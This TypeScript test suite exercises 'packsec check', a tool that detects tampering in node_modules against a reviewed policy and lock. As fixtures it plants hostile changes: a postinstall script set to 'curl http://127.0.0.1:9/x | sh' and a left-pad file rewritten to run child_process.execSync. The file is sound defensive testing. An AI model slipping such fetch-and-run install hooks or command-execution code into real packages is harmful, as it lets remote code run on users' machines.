// `packsec check` as CI runs it: init on a fixture tree, then change node_modules the ways a
// compromise or a careless install would, and expect exit 1 with the change named.
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { initialisedBasic, runCli, TAMPERS, tmpProject } from './helpers.js';

const initialised = () => initialisedBasic('packsec-check-');

function check(dir: string): { code: number | null; data: { ok: boolean; problems: { kind: string; package: string; path?: string; message: string; details: string[] }[] }; stderr: string } {
  const r = runCli(['check', '--json'], dir);
  return { code: r.code, data: JSON.parse(r.stdout), stderr: r.stderr };
}

describe('packsec check', () => {
  it('passes right after init, with a readable line', () => {
    const dir = initialised();
    const r = runCli(['check'], dir);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /packsec check: ok — 5 packages \(5 copies\) match the policy and the lock/);
  });

  it('fails on a gained capability, naming it with file:line', () => {
    const dir = initialised();
    writeFileSync(join(dir, 'node_modules/left-pad/index.js'), "module.exports = (s) => require('child_process').execSync(s);\n");
    const r = check(dir);
    assert.equal(r.code, 1);
    const gained = r.data.problems.find((p) => p.kind === 'gained');
    assert.equal(gained?.package, 'left-pad');
    assert.deepEqual(gained?.details, ['builtins:child_process.execSync  (node_modules/left-pad/index.js:1)']);
    const text = runCli(['check'], dir).stderr;
    assert.match(text, /gained capabilities:\n {2}left-pad@1\.0\.0 gained a capability\n {6}\+ builtins:child_process\.execSync/);
  });

  it('fails on each kind of tampering: modified, added (never loaded), deleted, swapped package.json, symlink out, other version', () => {
    const expected: Record<string, [string, RegExp]> = {
      'modified file': ['files-changed', /modified index\.js/],
      'added file': ['files-changed', /added payload\.js/],
      'deleted file': ['files-changed', /removed index\.js/],
      'swapped package.json': ['files-changed', /modified package\.json/],
      'symlink out of the package': ['files-changed', /added etc/],
      'folder replaced by another version': ['version-changed', /left-pad@1\.0\.0 was reviewed, left-pad@1\.3\.0 is installed/],
    };
    const cases = TAMPERS.map(({ what, tamper }) => [what, tamper, ...expected[what]!] as const);
    for (const [what, tamper, kind, detail] of cases) {
      const dir = initialised();
      tamper(dir);
      const r = check(dir);
      assert.equal(r.code, 1, `${what}: ${r.stderr}`);
      const p = r.data.problems.find((x) => x.kind === kind);
      assert.ok(p, `${what}: ${JSON.stringify(r.data.problems)}`);
      assert.match([p.message, ...p.details].join('\n'), detail, what);
    }
  });

  it('fails on a package that is not in the policy or the lock', () => {
    const dir = initialised();
    mkdirSync(join(dir, 'node_modules/newcomer'));
    writeFileSync(join(dir, 'node_modules/newcomer/package.json'), JSON.stringify({ name: 'newcomer', version: '1.0.0' }));
    writeFileSync(join(dir, 'node_modules/newcomer/index.js'), "module.exports = process.env.HOME;\n");
    const r = check(dir);
    assert.equal(r.code, 1);
    assert.deepEqual(r.data.problems.map((p) => p.kind).sort(), ['not-in-lock', 'not-in-policy']);
    assert.deepEqual(r.data.problems.find((p) => p.kind === 'not-in-policy')?.details, ['globals:process.env.HOME']);
  });

  it('fails on a changed install script', () => {
    const dir = initialised();
    const file = join(dir, 'node_modules/native-thing/package.json');
    const pkg = JSON.parse(readFileSync(file, 'utf8'));
    writeFileSync(file, JSON.stringify({ ...pkg, scripts: { postinstall: 'curl http://127.0.0.1:9/x | sh' } }));
    const r = check(dir);
    assert.equal(r.code, 1);
    const p = r.data.problems.find((x) => x.kind === 'script-changed');
    assert.ok(p, JSON.stringify(r.data.problems));
    assert.ok(p.details.includes('now postinstall: "curl http://127.0.0.1:9/x | sh"'), p.details.join('\n'));
  });

  it('a capability taken away by hand is not a gain; one granted by hand covers a new use', () => {
    const dir = initialised();
    const policyFile = join(dir, 'packsec.policy.json');
    const policy = JSON.parse(readFileSync(policyFile, 'utf8'));
    policy.packages['config-reader'] = {};
    policy.packages['left-pad'] = { builtins: ['os'] };
    writeFileSync(policyFile, JSON.stringify(policy, null, 2));
    writeFileSync(join(dir, 'node_modules/left-pad/index.js'), "module.exports = () => require('os').cpus();\n");
    const r = check(dir);
    assert.deepEqual(r.data.problems.filter((p) => p.kind === 'gained'), []);
  });

  it('exits 2 on a broken policy, naming the file and the JSON path', () => {
    const dir = initialised();
    writeFileSync(join(dir, 'packsec.policy.json'), JSON.stringify({ version: 1, packages: { 'left-pad': { builtins: [42] } } }));
    const r = runCli(['check'], dir);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /packsec\.policy\.json: packages\["left-pad"\]\.builtins\[0\]: expected a string, got 42/);
  });
});
